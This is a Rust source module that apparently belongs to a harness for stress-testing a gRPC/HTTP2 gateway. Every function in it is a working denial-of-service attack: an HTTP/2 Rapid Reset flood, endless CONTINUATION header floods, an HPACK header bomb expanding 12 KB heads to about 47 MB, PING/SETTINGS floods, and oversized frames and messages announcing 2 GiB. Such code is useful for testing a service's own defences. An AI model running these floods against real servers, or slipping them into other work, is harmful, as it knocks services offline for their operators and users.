//! Attacks by how much is sent.

use super::attack::{Attacker, portions};
use super::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_BYTES_MAX, HEADERS, PING, RST_STREAM,
    SETTINGS, Wire, call, field, frame,
};
use super::{LIST, MESSAGE};
use crate::Failure;

/// What is sent every ten milliseconds.
const RESETS: usize = 20;
const HEADER_FRAMES: usize = 2;
const CONTROLS: usize = 50;
/// Connections that a flood uses at once.
const CONNECTIONS: usize = 4;
/// A header that is told once, in bytes, and how often it is named in one head.
const BOMB_BYTES: usize = 3_900;
const BOMB_TIMES: usize = 12_000;
/// The name of the newest remembered header.
const NEWEST: u8 = 0x80 | 62;
/// `CANCEL`.
const CANCELLED: [u8; 4] = [0, 0, 0, 8];
/// A message longer than the gateway takes, in frames of the longest allowed.
const MESSAGE_FRAMES: usize = 320;
/// What it announces: 2 GiB.
const ANNOUNCED: &[u8] = b"\0\x80\0\0\0";

/// Does this on all connections of a flood, and again when one was cut off.
async fn flood(attacker: &Attacker, what: impl AsyncFn(Wire) -> Result<(), Failure>) {
    let one = || attacker.again(|| async { what(Wire::open(attacker.addr).await?).await });
    futures_util::future::join_all((0..CONNECTIONS).map(|_| one())).await;
}

/// 8,000 calls a second that are given up at once.
pub async fn rapid_reset(attacker: &Attacker) {
    let head = call(LIST, &attacker.token);
    flood(attacker, async |mut wire| {
        let mut portions = portions();
        loop {
            portions.tick().await;
            let mut bytes = Vec::new();
            for _ in 0..RESETS {
                let stream = wire.stream();
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &head));
                bytes.extend(frame(RST_STREAM, 0, stream, &CANCELLED));
            }
            wire.send(&bytes).await?;
            attacker.did(RESETS as u64);
        }
    })
    .await;
}

/// 13 MB a second of headers without an end.
pub async fn headers(attacker: &Attacker) {
    let filler = field(0x00, "x-filler", &"x".repeat(FRAME_BYTES_MAX - 32));
    flood(attacker, async |mut wire| {
        let stream = wire.stream();
        wire.send(&frame(HEADERS, 0, stream, &call(LIST, &attacker.token))).await?;
        let mut portions = portions();
        loop {
            portions.tick().await;
            let more = frame(CONTINUATION, 0, stream, &filler).repeat(HEADER_FRAMES);
            wire.send(&more).await?;
            attacker.did(HEADER_FRAMES as u64);
        }
    })
    .await;
}

/// 400 heads a second of 12 KB each, which say 47 MB.
pub async fn header_bomb(attacker: &Attacker) {
    let first = [
        call(LIST, &attacker.token),
        field(0x40, "x-bomb", &"x".repeat(BOMB_BYTES)),
        vec![NEWEST; BOMB_TIMES],
    ]
    .concat();
    let later = [call(LIST, &attacker.token), vec![NEWEST; BOMB_TIMES]].concat();
    flood(attacker, async |mut wire| {
        let mut portions = portions();
        let mut head = &first;
        loop {
            portions.tick().await;
            let stream = wire.stream();
            let (begin, rest) = head.split_at(head.len().min(FRAME_BYTES_MAX));
            let begin_flags = if rest.is_empty() { END_HEADERS } else { 0 } | END_STREAM;
            let mut bytes = frame(HEADERS, begin_flags, stream, begin);
            if !rest.is_empty() {
                bytes.extend(frame(CONTINUATION, END_HEADERS, stream, rest));
            }
            wire.send(&bytes).await?;
            attacker.did(1);
            head = &later;
        }
    })
    .await;
}

/// 20,000 pings and as many settings a second.
pub async fn control(attacker: &Attacker) {
    let both = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat();
    let portion = both.repeat(CONTROLS);
    flood(attacker, async |mut wire| {
        let mut portions = portions();
        loop {
            portions.tick().await;
            wire.send(&portion).await?;
            attacker.did(2 * CONTROLS as u64);
        }
    })
    .await;
}

/// Frames of 1 MB, which end a connection, and on others messages of 5 MB that announce 2 GiB, which end a call.
pub async fn oversized(attacker: &Attacker) {
    let head = call(LIST, &attacker.token);
    let frames = attacker.again(|| async {
        let mut wire = Wire::open(attacker.addr).await?;
        let stream = wire.stream();
        wire.send(&frame(HEADERS, END_HEADERS, stream, &head)).await?;
        wire.send(&frame(DATA, 0, stream, &vec![0; 64 * FRAME_BYTES_MAX])).await?;
        attacker.did(1);
        Ok(())
    });
    let messages = || attacker.again(|| message(attacker, &head));
    tokio::join!(frames, futures_util::future::join_all((0..CONNECTIONS).map(|_| messages())));
}

/// As much of the message as the gateway takes; where it takes no more it has given the call up.
async fn message(attacker: &Attacker, head: &[u8]) -> Result<(), Failure> {
    let mut wire = Wire::open(attacker.addr).await?;
    let stream = wire.stream();
    wire.send(&frame(HEADERS, END_HEADERS, stream, head)).await?;
    wire.send(&frame(DATA, 0, stream, ANNOUNCED)).await?;
    let mut portions = portions();
    for _ in 0..MESSAGE_FRAMES {
        portions.tick().await;
        wire.send(&frame(DATA, 0, stream, &[7; FRAME_BYTES_MAX])).await?;
        attacker.did(1);
    }
    wire.send(&frame(DATA, END_STREAM, stream, MESSAGE)).await
}
